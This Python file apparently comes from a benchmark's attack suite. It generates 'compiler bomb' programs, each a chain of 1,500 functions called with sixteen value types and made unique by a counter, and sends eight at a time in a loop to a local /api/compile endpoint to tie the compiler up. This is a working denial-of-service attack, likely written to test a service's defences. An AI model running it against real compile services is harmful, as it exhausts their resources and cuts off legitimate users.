"""Small programs that keep the compiler busy for as long as it lets itself be kept, several at once, each a new one."""

from __future__ import annotations

import itertools
import time

from bench.attacks.client import GoesOn, exchange, main, post, side_by_side

AT_ONCE = 8
_numbers = itertools.count()


def bomb(number: int) -> str:
    """Takes the compiler longer than 10 s: each function has a version for each of sixteen types."""
    kinds = "1 1.5 's' True None [1] [1.5] ['s'] (1,) (1.5,) ('s',) {1} {1.5} {1:2} {'a':1} [[1]]".split()
    chain = (f"def f{i}(a):\n    b = f{i - 1}(a)\n    print(b, [a, a], a)\n    return b\n" for i in range(1, 1500))
    calls = (f"print(f1499({value}))\n" for value in kinds)
    return "".join([f"def f0(a):\n    return [a, {number}]\n", *chain, *calls])


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    def throw(_: int) -> None:
        while goes_on():
            if exchange(port, source, post("/api/compile", {"source": bomb(next(_numbers))})) != 422:
                time.sleep(0.05)

    side_by_side(AT_ONCE, throw)


if __name__ == "__main__":
    main(attack)
